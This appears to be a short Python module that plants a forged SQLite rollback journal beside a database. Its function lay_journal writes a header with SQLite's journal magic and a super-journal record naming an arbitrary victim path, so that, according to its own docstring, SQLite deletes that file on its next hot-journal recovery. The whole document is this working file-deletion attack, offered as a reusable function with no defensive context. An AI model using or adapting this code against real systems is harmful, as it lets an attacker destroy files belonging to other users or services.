"""What lies beside a database of SQLite whose writer was killed, and what a stranger would put there."""

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def lay_journal(database: Path, victim: Path) -> Path:
    """Put a journal beside a database that makes SQLite delete the victim; returns its path."""
    page, sector = int.from_bytes(database.read_bytes()[16:18], "big"), 512
    head = _MAGIC + struct.pack(">IIIII", 0, 0, database.stat().st_size // page, sector, page)
    name = bytes(victim.absolute())
    tail = struct.pack(">I", 2**30 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(head.ljust(sector, b"\0") + tail)
    return journal
